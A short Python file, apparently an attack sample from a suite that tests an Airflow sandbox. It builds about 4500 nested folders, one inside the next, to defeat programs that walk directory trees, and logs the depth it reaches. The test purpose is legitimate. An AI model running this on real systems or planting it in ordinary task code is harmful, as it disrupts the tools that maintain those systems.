"""Makes folders in folders, deeper than any program goes that walks them.

---
ends = ["ran", "error"]
"""

import os

from airflow_attack import attack, tried


def work() -> None:
    deep = 0
    try:
        for _ in range(4500):
            os.mkdir("deeper")
            os.chdir("deeper")
            deep += 1
    except OSError as error:
        tried(f"at {deep}: {error}")
    tried(f"{deep} folders deep")


dag = attack(work)
